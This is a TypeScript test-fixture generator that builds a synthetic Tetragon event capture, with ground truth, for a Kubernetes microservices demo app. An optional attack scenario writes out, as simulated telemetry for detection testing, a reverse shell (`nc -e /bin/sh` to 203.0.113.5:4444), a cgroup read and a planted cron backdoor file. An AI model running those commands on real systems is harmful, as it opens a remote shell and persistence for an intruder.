// A deterministic Tetragon capture of the demo app in ../shared/corpus/coral (manifests + Services),
// as the agent's export file would hold it on one node, with its ground truth.
//
// From the manifests: each Deployment's pod (its labels + pod-template-hash, a pod IP, container id,
// image), its server process, its kubelet exec probes, and the calls it makes (its `*_ADDR` env vars:
// the app's call graph). From kubectl_svc.json: the ClusterIPs and ports those calls go to (or, as with
// socket-level load balancing, the chosen pod's IP and target port), and the callee's answer
// (tcp_sendmsg on its accepted socket, from its pod IP). Also: host processes without pod
// (kubelet, containerd), containerd-shim parents, a forked child that never execs, an unknown process,
// file writes in both policy styles (v1.3's sys_write on a followed fd, v1.4+'s security_file_permission),
// out-of-order lines (a kprobe before its exec, as the agent's event cache does) and duplicate lines
// (export-stdout's `tail` re-emitting its last 10 lines), optionally process.ns and protojson's
// occasional space after commas, processes whose events name a container but no pod, and an attack.
import { readFileSync, readdirSync } from 'node:fs';
import path from 'node:path';
import { parse as parseYaml } from 'yaml';
import { repoRoot } from './capture.js';
import { seededRandom } from './random.js';

export const CORAL = path.resolve(repoRoot, '..', 'shared', 'corpus', 'coral');
export const CORAL_SERVICES = path.join(CORAL, 'kubectl_svc.json');

export interface GenOptions {
  seed?: number;
  /** Seconds of traffic: each round makes every call of the graph once and some probes and writes. */
  rounds?: number;
  /** process.ns on every process (Helm enableProcessNs). */
  ns?: boolean;
  /** `, ` between members, as some Tetragon builds write. */
  spaced?: boolean;
  node?: string;
  /**
   * Processes whose events carry a container id but no pod: one in a pod (the agent's pod lookup
   * failed: `docker` set, `pod` missing) and one in a container Kubernetes does not manage.
   */
  containersWithoutPod?: boolean;
  /** An attack in adservice's pod: a shell from Java, `nc -e /bin/sh` to a public IP on 4444, `cat /proc/1/cgroup`, a cron file. */
  attack?: boolean;
}

export interface GenPod {
  deployment: string;
  name: string;
  namespace: string;
  uid: string;
  ip: string;
  containerId: string;
  containerName: string;
  image: string;
  labels: Record<string, string>;
  /** Services whose selector matches the pod's labels (sorted). */
  services: string[];
}

export interface GenProcess {
  /** The pod it runs in (whether or not its events say so). */
  pod: string | undefined;
  namespace: string | undefined;
  services: string[];
  /** Runs on the node itself, in no container. */
  host: boolean;
  probe: boolean;
  /** Its events carry a container id but no pod. */
  containerOnly?: boolean;
  /** The agent never cached it: its events carry a pid and nothing else. */
  unknown?: boolean;
}

/** The attack's processes (`attack` option), by what they do. */
export interface GenAttack {
  service: string;
  pod: string;
  shell: { execId: string; pid: number };
  netcat: { execId: string; pid: number };
  cat: { execId: string; pid: number };
  tee: { execId: string; pid: number };
  /** Where netcat connects. */
  remote: { address: string; port: number };
  cronFile: string;
}

export interface GenCall {
  execId: string;
  from: string;
  to: string;
  saddr: string;
  sport: number;
  daddr: string;
  dport: number;
  viaClusterIp: boolean;
  /** Epoch seconds, as the reader writes it. */
  time: string;
}

export interface GenTruth {
  node: string;
  pods: GenPod[];
  /** exec_id (or, for the unknown process, its pid) → where it runs. */
  processes: Map<string, GenProcess>;
  calls: GenCall[];
  /** Lines that repeat an earlier line. */
  duplicates: number;
  /** Distinct events by type. */
  events: Record<string, number>;
  /** kprobe lines written before their process's exec line. */
  outOfOrder: number;
  /** Connects of exec probes to their own pod's port (in-pod, 127.0.0.1). */
  probeConnects: { service: string; port: number; time: string }[];
  /** Connects of host processes (address:port they go to). */
  hostConnects: { address: string; port: number; time: string }[];
  attack: GenAttack | undefined;
}

export interface GeneratedCapture {
  /** The export file's lines, in file order (duplicates included), without newlines. */
  lines: string[];
  truth: GenTruth;
}

interface Deployment {
  name: string;
  labels: Record<string, string>;
  container: string;
  image: string;
  port: number;
  probes: string[][];
  /** `svc:port` the app calls, from its `*_ADDR` env vars. */
  calls: { service: string; port: number }[];
}

interface ServiceInfo {
  name: string;
  clusterIp: string;
  port: number;
  targetPort: number;
  selector: Record<string, string> | undefined;
}

/** Each service's server binary, arguments and working directory (as the demo app's images run them). */
const SERVER_PROCESS: Record<string, { binary: string; args: string; cwd: string }> = {
  frontend: { binary: '/src/server', args: '', cwd: '/src' },
  cartservice: { binary: '/app/cartservice', args: '', cwd: '/app' },
  checkoutservice: { binary: '/src/checkoutservice', args: '', cwd: '/src' },
  currencyservice: { binary: '/usr/local/bin/node', args: 'server.js', cwd: '/usr/src/app' },
  emailservice: { binary: '/usr/local/bin/python', args: 'email_server.py', cwd: '/email_server' },
  paymentservice: { binary: '/usr/local/bin/node', args: 'index.js', cwd: '/usr/src/app' },
  productcatalogservice: { binary: '/src/server', args: '', cwd: '/src' },
  recommendationservice: { binary: '/usr/local/bin/python', args: 'recommendation_server.py', cwd: '/recommendationservice' },
  shippingservice: { binary: '/src/shippingservice', args: '', cwd: '/src' },
  adservice: { binary: '/opt/java/openjdk/bin/java', args: '-cp /app/build/install/hipstershop/lib/* hipstershop.AdService', cwd: '/app' },
  'redis-cart': { binary: '/usr/local/bin/redis-server', args: '*:6379', cwd: '/data' },
};

export function loadDeployments(): Deployment[] {
  const dir = path.join(CORAL, 'manifests');
  return readdirSync(dir)
    .filter((f) => f.endsWith('-deploy.yaml'))
    .sort()
    .map((f) => deploymentOf(parseYaml(readFileSync(path.join(dir, f), 'utf8')) as DeploymentYaml));
}

interface DeploymentYaml {
  metadata: { name: string };
  spec: {
    template: {
      metadata: { labels: Record<string, string> };
      spec: { containers: { name: string; image: string; ports?: { containerPort: number }[]; env?: { name: string; value?: string }[]; readinessProbe?: ProbeYaml; livenessProbe?: ProbeYaml }[] };
    };
  };
}
interface ProbeYaml {
  exec?: { command: string[] };
}

function deploymentOf(y: DeploymentYaml): Deployment {
  const c = y.spec.template.spec.containers[0]!;
  const probes = [c.readinessProbe, c.livenessProbe].flatMap((p) => (p?.exec ? [p.exec.command] : []));
  const unique = [...new Map(probes.map((p) => [p.join(' '), p])).values()];
  const calls = (c.env ?? [])
    .filter((e) => e.name.endsWith('_ADDR') && e.value?.includes(':'))
    .map((e) => ({ service: e.value!.split(':')[0]!, port: Number(e.value!.split(':')[1]) }));
  return { name: y.metadata.name, labels: y.spec.template.metadata.labels, container: c.name, image: c.image, port: c.ports?.[0]?.containerPort ?? 0, probes: unique, calls };
}

export function loadServices(): ServiceInfo[] {
  const list = JSON.parse(readFileSync(CORAL_SERVICES, 'utf8')) as {
    items: { metadata: { name: string }; spec: { clusterIP: string; selector?: Record<string, string>; ports: { port: number; targetPort: number | string }[] } }[];
  };
  return list.items.map((s) => ({
    name: s.metadata.name,
    clusterIp: s.spec.clusterIP,
    port: s.spec.ports[0]!.port,
    targetPort: Number(s.spec.ports[0]!.targetPort),
    selector: s.spec.selector,
  }));
}

// ------------------------------------------------------------------------------------------ JSON

/** JSON with protojson's occasional `, ` between members (a build-dependent choice, see the research notes). */
export function toJson(value: unknown, spaced: boolean): string {
  if (!spaced) return JSON.stringify(value);
  if (Array.isArray(value)) return `[${value.map((v) => toJson(v, true)).join(', ')}]`;
  if (value !== null && typeof value === 'object') {
    const members = Object.entries(value as Record<string, unknown>).filter(([, v]) => v !== undefined);
    return `{${members.map(([k, v]) => `${JSON.stringify(k)}:${toJson(v, true)}`).join(', ')}}`;
  }
  return JSON.stringify(value);
}

const NS_PER_MS = 1_000_000;
const NS_PER_US = 1000;
const NS_PER_S = 1_000_000_000;

/** protojson's Timestamp: 0, 3, 6 or 9 fractional digits, whichever is exact. */
export function protoTime(epochNs: bigint): string {
  const seconds = epochNs / BigInt(NS_PER_S);
  const nanos = Number(epochNs % BigInt(NS_PER_S));
  const base = new Date(Number(seconds) * 1000).toISOString().slice(0, 19);
  if (nanos === 0) return `${base}Z`;
  if (nanos % NS_PER_MS === 0) return `${base}.${String(nanos / NS_PER_MS).padStart(3, '0')}Z`;
  if (nanos % NS_PER_US === 0) return `${base}.${String(nanos / NS_PER_US).padStart(6, '0')}Z`;
  return `${base}.${String(nanos).padStart(9, '0')}Z`;
}

/** What the reader writes for that time: epoch seconds, fraction as written. */
export function epochText(epochNs: bigint): string {
  const t = protoTime(epochNs);
  const dot = t.indexOf('.');
  const whole = String(epochNs / BigInt(NS_PER_S));
  return dot === -1 ? whole : `${whole}.${t.slice(dot + 1, -1)}`;
}

// ------------------------------------------------------------------------------------------ events

const NAMESPACE = 'default';
const NODE_IP = '172.18.0.3';
/** 2023-12-07T14:30:00Z, when the shared SPADE capture was taken. */
const START_NS = 1_701_959_400n * BigInt(NS_PER_S);
/** The node booted an hour before: exec_ids carry ktime, ns since boot. */
const BOOT_NS = START_NS - 3600n * BigInt(NS_PER_S);
const CONTAINER_START = '2023-12-07T14:00:00Z';
const PROBE_PERIOD = 5;
const FORK_PERIOD = 5;
const HOST_PERIOD = 3;
/** Rounds at which export-stdout's `tail` restarts and re-emits the last lines. */
const TAIL_REPLAY = 10;
/** Jars on adservice's class path: its lines are ~20 KiB, over containerd's 16 KiB CRI line limit. */
const CLASSPATH_JARS = 400;

interface Proc {
  execId: string;
  pid: number;
  binary: string;
  args: string;
  cwd: string;
  flags: string;
  startNs: bigint;
  uid: number;
  parentExecId: string;
  pod?: GenPod;
  containerPid?: number;
  probe?: boolean;
  inInitTree?: boolean;
  /** In `pod`, but its events leave the pod out (the agent's pod lookup failed). */
  podHidden?: boolean;
  /** In a container no pod owns (bare 64-hex id). */
  container?: string;
  netns: number;
  pidns: number;
  mntns: number;
}

/** Host namespace inodes (the kernel's initial ones). */
const HOST_NS = { net: 4026531840, pid: 4026531836, mnt: 4026531841 };

class Generator {
  readonly lines: { text: string; execId: string; exec: boolean }[] = [];
  readonly truth: GenTruth;
  private readonly events = new Map<string, number>();
  private now = START_NS;
  private nextPid = 2000;
  private readonly rnd: ReturnType<typeof seededRandom>;
  private readonly byService = new Map<string, { pod: GenPod; server: Proc; shim: Proc }>();
  readonly host: Record<'systemd' | 'containerd' | 'kubelet', Proc>;

  constructor(private readonly opts: Required<GenOptions>) {
    this.rnd = seededRandom(opts.seed);
    this.truth = { node: opts.node, pods: [], processes: new Map(), calls: [], duplicates: 0, events: {}, outOfOrder: 0, probeConnects: [], hostConnects: [], attack: undefined };
    const systemd = this.procFs(1, '/usr/lib/systemd/systemd', '--system --deserialize 31', '');
    this.host = {
      systemd,
      containerd: this.procFs(612, '/usr/local/bin/containerd', '', systemd.execId),
      kubelet: this.procFs(700, '/usr/bin/kubelet', '--config=/var/lib/kubelet/config.yaml --container-runtime-endpoint=unix:///run/containerd/containerd.sock', systemd.execId),
    };
  }

  private hex(n: number): string {
    let out = '';
    for (let i = 0; i < n; i++) out += Math.floor(this.rnd.rand() * 16).toString(16);
    return out;
  }

  private tick(maxMs: number): void {
    this.now += BigInt(1 + Math.floor(this.rnd.rand() * maxMs * NS_PER_MS));
  }

  private execId(pid: number, startNs: bigint): string {
    return Buffer.from(`${this.opts.node}:${startNs - BOOT_NS}:${pid}`).toString('base64');
  }

  /** A process the agent found in /proc at start: no exec event, start time in whole ms. */
  private procFs(pid: number, binary: string, args: string, parentExecId: string): Proc {
    const startNs = BOOT_NS + BigInt(pid) * BigInt(NS_PER_MS);
    const p: Proc = { execId: this.execId(pid, startNs), pid, binary, args, cwd: '/', flags: 'procFS auid rootcwd', startNs, uid: 0, parentExecId, netns: HOST_NS.net, pidns: HOST_NS.pid, mntns: HOST_NS.mnt };
    this.truth.processes.set(p.execId, { pod: undefined, namespace: undefined, services: [], host: true, probe: false });
    return p;
  }

  private spawn(parent: Proc, binary: string, args: string, cwd: string, extra: Partial<Proc> = {}): Proc {
    this.tick(3);
    const pid = this.nextPid++;
    const p: Proc = { execId: this.execId(pid, this.now), pid, binary, args, cwd, flags: 'execve clone', startNs: this.now, uid: 0, parentExecId: parent.execId, netns: parent.netns, pidns: parent.pidns, mntns: parent.mntns, ...extra };
    const pod = p.pod;
    const containerOnly = p.podHidden === true || p.container !== undefined;
    this.truth.processes.set(p.execId, {
      pod: pod?.name,
      namespace: pod?.namespace,
      services: pod?.services ?? [],
      host: pod === undefined && p.container === undefined,
      probe: p.probe ?? false,
      ...(containerOnly ? { containerOnly } : {}),
    });
    return p;
  }

  processJson(p: Proc, tid?: number): Record<string, unknown> {
    const pod = p.podHidden ? undefined : p.pod;
    const docker = p.pod ? p.pod.containerId.replace('containerd://', '').slice(0, 31) : p.container?.slice(0, 31);
    return {
      exec_id: p.execId,
      pid: p.pid,
      uid: p.uid,
      cwd: p.cwd,
      binary: p.binary,
      arguments: p.args || undefined,
      flags: p.flags,
      start_time: protoTime(p.startNs),
      auid: 4294967295,
      pod: pod && {
        namespace: pod.namespace,
        name: pod.name,
        uid: pod.uid,
        container: {
          id: pod.containerId,
          name: pod.containerName,
          image: { id: `${pod.image.split(':')[0]}@sha256:${pod.containerId.slice(-64)}`, name: pod.image },
          start_time: CONTAINER_START,
          pid: p.containerPid,
          maybe_exec_probe: p.probe || undefined,
        },
        pod_labels: pod.labels,
        workload: pod.deployment,
        workload_kind: 'Deployment',
      },
      docker,
      parent_exec_id: p.parentExecId || undefined,
      refcnt: 1,
      ns: this.opts.ns ? namespaces(p) : undefined,
      tid: tid ?? p.pid,
      in_init_tree: docker ? (p.inInitTree ?? false) : undefined,
    };
  }

  private write(type: string, body: Record<string, unknown>, execId: string): void {
    this.events.set(type, (this.events.get(type) ?? 0) + 1);
    const text = toJson({ [type]: body, node_name: this.opts.node, time: protoTime(this.now) }, this.opts.spaced);
    this.lines.push({ text, execId, exec: type === 'process_exec' });
  }

  exec(p: Proc, parent: Proc): void {
    this.write('process_exec', { process: this.processJson(p), parent: this.processJson(parent) }, p.execId);
  }

  exit(p: Proc, parent: Proc, status: number): void {
    this.tick(2);
    this.write('process_exit', { process: this.processJson(p), parent: this.processJson(parent), status: status || undefined, time: protoTime(this.now) }, p.execId);
  }

  kprobe(p: Proc, parent: Proc, fn: string, args: unknown[], policy: string, extra: Record<string, unknown> = {}, tid?: number): void {
    this.tick(2);
    this.kprobeNow(p, parent, fn, args, policy, extra, tid);
  }

  /** A kprobe at the time of the previous event (draws no random number: the rest of the capture stays as it was). */
  kprobeNow(p: Proc, parent: Proc, fn: string, args: unknown[], policy: string, extra: Record<string, unknown> = {}, tid?: number): void {
    const body = { process: this.processJson(p, tid), parent: this.processJson(parent), function_name: fn, args, ...extra, action: 'KPROBE_ACTION_POST', policy_name: policy, return_action: 'KPROBE_ACTION_POST' };
    this.write('process_kprobe', body, p.execId);
  }

  /** Pods and their server processes, from the manifests (one replica each), parents first. */
  startPods(deployments: readonly Deployment[], services: readonly ServiceInfo[]): void {
    deployments.forEach((d, i) => {
      const hash = this.hex(10);
      const labels: Record<string, string> = { ...d.labels, 'pod-template-hash': hash };
      const pod: GenPod = {
        deployment: d.name,
        name: `${d.name}-${hash}-${this.hex(5)}`,
        namespace: NAMESPACE,
        uid: `${this.hex(8)}-${this.hex(4)}-${this.hex(4)}-${this.hex(4)}-${this.hex(12)}`,
        ip: `10.244.1.${10 + i}`,
        containerId: `containerd://${this.hex(64)}`,
        containerName: d.container,
        image: d.image,
        labels,
        services: services.filter((s) => s.selector && Object.entries(s.selector).every(([k, v]) => labels[k] === v)).map((s) => s.name).sort(),
      };
      this.truth.pods.push(pod);
      const ns = { netns: 4026532300 + 10 * i, pidns: 4026532301 + 10 * i, mntns: 4026532302 + 10 * i };
      const shim = this.spawn(this.host.containerd, '/usr/local/bin/containerd-shim-runc-v2', `-namespace k8s.io -id ${this.hex(64)} -address /run/containerd/containerd.sock`, '/run/containerd');
      this.exec(shim, this.host.containerd);
      const spec = SERVER_PROCESS[d.name] ?? { binary: `/app/${d.name}`, args: '', cwd: '/app' };
      const args = d.name === 'adservice' ? spec.args.replace('/app/build/install/hipstershop/lib/*', this.classpath()) : spec.args;
      const server = this.spawn(shim, spec.binary, args, spec.cwd, { pod, containerPid: 1, inInitTree: true, uid: 1000, flags: 'execve rootcwd clone', ...ns });
      this.exec(server, shim);
      this.byService.set(d.name, { pod, server, shim });
    });
  }

  private classpath(): string {
    return Array.from({ length: CLASSPATH_JARS }, (_, i) => `/app/build/install/hipstershop/lib/dependency-${i}-${this.hex(6)}.jar`).join(':');
  }

  /** One round: every call of the graph, some probes, file writes, a forked child, host activity. */
  round(r: number, deployments: readonly Deployment[], services: readonly ServiceInfo[]): void {
    this.now = START_NS + BigInt(r + 1) * BigInt(NS_PER_S);
    for (const d of deployments) for (const call of d.calls) this.call(d.name, call.service, services);
    deployments.forEach((d, i) => {
      if (d.probes.length > 0 && (r + i) % PROBE_PERIOD === 0) this.probe(d, d.probes[(r + i) % d.probes.length]!);
    });
    this.redis(r);
    if (r % HOST_PERIOD === 0) this.kubelet(r);
    if (r === 0) this.unknownProcess();
    if (r === 1) this.hostShell();
    if (r === 2 && this.opts.containersWithoutPod) this.containersWithoutPod();
    if (r === 3 && this.opts.attack) this.attack();
  }

  /** A `kubectl exec` into cartservice the agent could not resolve to its pod, and a container of no pod (`ctr run`). */
  private containersWithoutPod(): void {
    const cart = this.byService.get('cartservice')!;
    const exec = this.spawn(cart.shim, '/bin/ls', '-l /app', '/app', { pod: cart.pod, podHidden: true, containerPid: 300, uid: 1000, ...nsOf(cart.server) });
    this.exec(exec, cart.shim);
    this.exit(exec, cart.shim, 0);
    const shim = this.spawn(this.host.containerd, '/usr/local/bin/containerd-shim-runc-v2', `-namespace default -id ${this.hex(64)} -address /run/containerd/containerd.sock`, '/run/containerd');
    this.exec(shim, this.host.containerd);
    const lone = this.spawn(shim, '/bin/busybox', 'sleep 3600', '/', { container: this.hex(64), containerPid: 1, inInitTree: true, netns: 4026532900, pidns: 4026532901, mntns: 4026532902 });
    this.exec(lone, shim);
    this.kprobe(lone, shim, 'security_file_permission', [{ file_arg: { path: '/tmp/lone.log', permission: '-rw-r--r--' } }, { int_arg: 2 }], 'file-monitoring', { return: { int_arg: 0 } });
  }

  /** In adservice: Java starts a shell, which runs a reverse shell, reads its cgroup and plants a cron file. */
  private attack(): void {
    const { pod, server } = this.byService.get('adservice')!;
    const inPod = (containerPid: number): Partial<Proc> => ({ pod, containerPid, uid: 1000, ...nsOf(server) });
    const remote = { address: '203.0.113.5', port: 4444 };
    const cronFile = '/etc/cron.d/backdoor';
    const sh = this.spawn(server, '/bin/sh', `-c "nc -e /bin/sh ${remote.address} ${remote.port}; cat /proc/1/cgroup; tee ${cronFile}"`, '/app', inPod(400));
    this.exec(sh, server);
    const nc = this.spawn(sh, '/usr/bin/nc', `-e /bin/sh ${remote.address} ${remote.port}`, '/app', inPod(401));
    this.exec(nc, sh);
    const sock = { family: 'AF_INET', type: 'SOCK_STREAM', protocol: 'IPPROTO_TCP', saddr: pod.ip, daddr: remote.address, sport: 45678, dport: remote.port, cookie: '18446633333333333333', state: 'TCP_SYN_SENT' };
    this.kprobe(nc, sh, 'tcp_connect', [{ sock_arg: sock }], 'connect');
    this.exit(nc, sh, 0);
    const cat = this.spawn(sh, '/bin/cat', '/proc/1/cgroup', '/app', inPod(402));
    this.exec(cat, sh);
    this.exit(cat, sh, 0);
    const tee = this.spawn(sh, '/usr/bin/tee', cronFile, '/app', inPod(403));
    this.exec(tee, sh);
    this.kprobe(tee, sh, 'security_file_permission', [{ file_arg: { path: cronFile, permission: '-rw-r--r--' } }, { int_arg: 2 }], 'file-monitoring', { return: { int_arg: 0 } });
    this.exit(tee, sh, 0);
    this.exit(sh, server, 0);
    const ref = (p: Proc) => ({ execId: p.execId, pid: p.pid });
    this.truth.attack = { service: 'adservice', pod: pod.name, shell: ref(sh), netcat: ref(nc), cat: ref(cat), tee: ref(tee), remote, cronFile };
  }

  /** A host shell (no pod) whose arguments are not ASCII: CRI chunks can cut inside a character. */
  private hostShell(): void {
    const sh = this.spawn(this.host.kubelet, '/bin/sh', `-c "logger -t probe 'résumé ☕ 日本語 ${'é'.repeat(40)}'"`, '/');
    this.exec(sh, this.host.kubelet);
    this.exit(sh, this.host.kubelet, 1);
  }

  private call(from: string, to: string, services: readonly ServiceInfo[]): void {
    const src = this.byService.get(from)!;
    const svc = services.find((s) => s.name === to)!;
    const dst = this.byService.get(to)!;
    const viaClusterIp = this.rnd.rand() < 0.7;
    const daddr = viaClusterIp ? svc.clusterIp : dst.pod.ip;
    const dport = viaClusterIp ? svc.port : svc.targetPort;
    const sport = 32768 + Math.floor(this.rnd.rand() * 28000);
    const cookie = (18446600000000000000n + BigInt(Math.floor(this.rnd.rand() * 1e12))).toString();
    const sock = (state: string) => ({ sock_arg: { family: 'AF_INET', type: 'SOCK_STREAM', protocol: 'IPPROTO_TCP', saddr: src.pod.ip, daddr, sport, dport, cookie, state } });
    const tid = src.server.pid + 1 + Math.floor(this.rnd.rand() * 20);
    this.kprobe(src.server, src.shim, 'tcp_connect', [sock('TCP_SYN_SENT')], 'connect', {}, tid);
    this.truth.calls.push({ execId: src.server.execId, from, to, saddr: src.pod.ip, sport, daddr, dport, viaClusterIp, time: epochText(this.now) });
    if (this.rnd.rand() < 0.5) this.kprobe(src.server, src.shim, 'tcp_sendmsg', [sock('TCP_ESTABLISHED'), { int_arg: 64 + Math.floor(this.rnd.rand() * 2000) }], 'connect', {}, tid);
    // The server answers on the accepted socket (tcp_sendmsg sees it too): its pod IP, its port, the caller.
    const reply = { family: 'AF_INET', type: 'SOCK_STREAM', protocol: 'IPPROTO_TCP', saddr: dst.pod.ip, daddr: src.pod.ip, sport: svc.targetPort, dport: sport, cookie: String(BigInt(cookie) + 1n), state: 'TCP_ESTABLISHED' };
    this.kprobeNow(dst.server, dst.shim, 'tcp_sendmsg', [{ sock_arg: reply }, { int_arg: 32 + (sport % 4000) }], 'connect');
    this.kprobe(src.server, src.shim, 'tcp_close', [sock('TCP_ESTABLISHED')], 'connect', {}, tid);
  }

  /** The kubelet's exec probe: a process in the pod, connecting to its own port; sometimes logged before its exec. */
  private probe(d: Deployment, command: string[]): void {
    const { pod, shim } = this.byService.get(d.name)!;
    const index = this.lines.length;
    const p = this.spawn(shim, command[0]!, command.slice(1).join(' '), '/', { pod, containerPid: 100 + (this.nextPid % 1000), probe: true, uid: 1000, ...nsOf(this.byService.get(d.name)!.server) });
    this.exec(p, shim);
    const port = Number(/-addr=:(\d+)/.exec(command.join(' '))?.[1] ?? d.port);
    const sock = { sock_arg: { family: 'AF_INET', type: 'SOCK_STREAM', protocol: 'IPPROTO_TCP', saddr: '127.0.0.1', daddr: '127.0.0.1', sport: 40000 + (this.nextPid % 20000), dport: port, cookie: String(18446600000000000000n + BigInt(this.nextPid)), state: 'TCP_SYN_SENT' } };
    this.kprobe(p, shim, 'tcp_connect', [sock], 'connect');
    this.truth.probeConnects.push({ service: d.name, port, time: epochText(this.now) });
    if (this.rnd.rand() < 0.3) {
      // The agent's event cache held the exec back: the kprobe line comes first.
      const [exec] = this.lines.splice(index, 1);
      this.lines.splice(index + 1, 0, exec!);
      this.truth.outOfOrder++;
    }
    this.exit(p, shim, 0);
  }

  /** redis-cart writes its dump in both policy styles, and forks a child (no exec) that writes and exits. */
  private redis(r: number): void {
    const { server, shim } = this.byService.get('redis-cart')!;
    if (r % 2 === 0) {
      this.kprobe(server, shim, 'security_file_permission', [{ file_arg: { path: '/data/dump.rdb', permission: '-rw-r--r--' } }, { int_arg: 2 }], 'file-monitoring', { return: { int_arg: 0 } });
    } else {
      this.kprobe(server, shim, '__x64_sys_write', [{ file_arg: { path: '/data/appendonly.aof' } }, { bytes_arg: Buffer.from(`*3\r\n$3\r\nSET\r\n$${r}\r\n`).toString('base64') }, { size_arg: '27' }], 'sys-write');
    }
    if (r % FORK_PERIOD !== 0) return;
    const child = this.spawn(server, server.binary, server.args, server.cwd, { pod: server.pod, containerPid: 50 + r, uid: 1000, flags: 'clone', inInitTree: true, ...nsOf(server) });
    this.kprobe(child, server, 'security_file_permission', [{ file_arg: { path: `/data/temp-${child.pid}.rdb`, permission: '-rw-r--r--' } }, { int_arg: 2 }], 'file-monitoring', { return: { int_arg: 0 } });
    this.exit(child, server, 0);
  }

  private kubelet(r: number): void {
    const k = this.host.kubelet;
    const api = { sock_arg: { family: 'AF_INET', type: 'SOCK_STREAM', protocol: 'IPPROTO_TCP', saddr: NODE_IP, daddr: '10.96.0.1', sport: 50000 + r, dport: 443, cookie: String(18446611111111111111n + BigInt(r)), state: 'TCP_SYN_SENT' } };
    this.kprobe(k, this.host.systemd, 'tcp_connect', [api], 'connect');
    this.truth.hostConnects.push({ address: api.sock_arg.daddr, port: api.sock_arg.dport, time: epochText(this.now) });
    this.kprobe(k, this.host.systemd, 'security_file_permission', [{ file_arg: { path: '/var/lib/kubelet/cpu_manager_state', permission: '-rw-------' } }, { int_arg: 2 }], 'file-monitoring', { return: { int_arg: 0 } });
  }

  /** A process the agent never cached: no exec_id, binary or pod. */
  private unknownProcess(): void {
    const pid = 1999;
    this.tick(2);
    const process = { pid, start_time: protoTime(BOOT_NS + 5n * BigInt(NS_PER_S)), flags: 'unknown' };
    const sock = { sock_arg: { family: 'AF_INET', type: 'SOCK_STREAM', protocol: 'IPPROTO_TCP', saddr: NODE_IP, daddr: '10.96.0.10', sport: 53000, dport: 53, cookie: '18446622222222222222', state: 'TCP_CLOSE' } };
    this.write('process_kprobe', { process, function_name: 'tcp_close', args: [sock], action: 'KPROBE_ACTION_POST', policy_name: 'connect', return_action: 'KPROBE_ACTION_POST' }, `pid:${pid}`);
    this.truth.processes.set(`pid:${pid}`, { pod: undefined, namespace: undefined, services: [], host: true, probe: false, unknown: true });
  }

  finish(): GeneratedCapture {
    const texts = this.lines.map((l) => l.text);
    // export-stdout restarted twice: tail re-emits the last TAIL_REPLAY lines; and one line written twice.
    const out: string[] = [];
    const replayAt = new Set([Math.floor(texts.length / 3), Math.floor((2 * texts.length) / 3)]);
    texts.forEach((t, i) => {
      out.push(t);
      if (i === 1) {
        out.push(t);
        this.truth.duplicates++;
      }
      if (replayAt.has(i) && i >= TAIL_REPLAY) {
        out.push(...texts.slice(i + 1 - TAIL_REPLAY, i + 1));
        this.truth.duplicates += TAIL_REPLAY;
      }
    });
    this.truth.events = Object.fromEntries(this.events);
    return { lines: out, truth: this.truth };
  }
}

function nsOf(p: Proc): Pick<Proc, 'netns' | 'pidns' | 'mntns'> {
  return { netns: p.netns, pidns: p.pidns, mntns: p.mntns };
}

function namespaces(p: Proc): Record<string, { inum: number; is_host?: boolean }> {
  const host = (inum: number, hostInum: number) => (inum === hostInum ? { inum, is_host: true } : { inum });
  return {
    uts: host(p.netns + 3, HOST_NS.net + 3),
    ipc: host(p.netns + 4, HOST_NS.net + 4),
    mnt: host(p.mntns, HOST_NS.mnt),
    pid: host(p.pidns, HOST_NS.pid),
    pid_for_children: host(p.pidns, HOST_NS.pid),
    net: host(p.netns, HOST_NS.net),
    cgroup: host(p.netns + 5, HOST_NS.net + 5),
    user: { inum: 4026531837, is_host: true },
  };
}

/** The capture, deterministic for given options. */
export function generateTetragonCapture(options: GenOptions = {}): GeneratedCapture {
  const opts: Required<GenOptions> = { seed: 12, rounds: 10, ns: false, spaced: false, node: 'kind-worker', containersWithoutPod: false, attack: false, ...options };
  const deployments = loadDeployments();
  const services = loadServices();
  const g = new Generator(opts);
  g.startPods(deployments, services);
  for (let r = 0; r < opts.rounds; r++) g.round(r, deployments, services);
  return g.finish();
}

/**
 * The capture's Pods as `kubectl get pods -o json` lists them: each Deployment's pod template from
 * the manifests, with the name, uid, labels, pod IP and container id the generator gave that pod.
 */
export function podList(truth: GenTruth): { apiVersion: 'v1'; kind: 'List'; metadata: { resourceVersion: '' }; items: object[] } {
  const dir = path.join(CORAL, 'manifests');
  const templates = new Map<string, { spec: Record<string, unknown> & { containers: { name: string; image: string }[] } }>();
  for (const f of readdirSync(dir).filter((n) => n.endsWith('-deploy.yaml'))) {
    const y = parseYaml(readFileSync(path.join(dir, f), 'utf8')) as { metadata: { name: string }; spec: { template: { spec: Record<string, unknown> & { containers: { name: string; image: string }[] } } } };
    templates.set(y.metadata.name, y.spec.template);
  }
  const items = truth.pods.map((p) => {
    const template = templates.get(p.deployment)!;
    const hash = p.labels['pod-template-hash']!;
    return {
      apiVersion: 'v1',
      kind: 'Pod',
      metadata: {
        name: p.name,
        namespace: p.namespace,
        uid: p.uid,
        labels: p.labels,
        ownerReferences: [{ apiVersion: 'apps/v1', kind: 'ReplicaSet', name: `${p.deployment}-${hash}`, uid: `rs-${hash}`, controller: true, blockOwnerDeletion: true }],
      },
      spec: { ...template.spec, nodeName: truth.node },
      status: {
        phase: 'Running',
        hostIP: NODE_IP,
        podIP: p.ip,
        podIPs: [{ ip: p.ip }],
        containerStatuses: template.spec.containers.map((c) => ({ name: c.name, image: c.image, containerID: p.containerId, ready: true, restartCount: 0 })),
      },
    };
  });
  return { apiVersion: 'v1', kind: 'List', metadata: { resourceVersion: '' }, items };
}
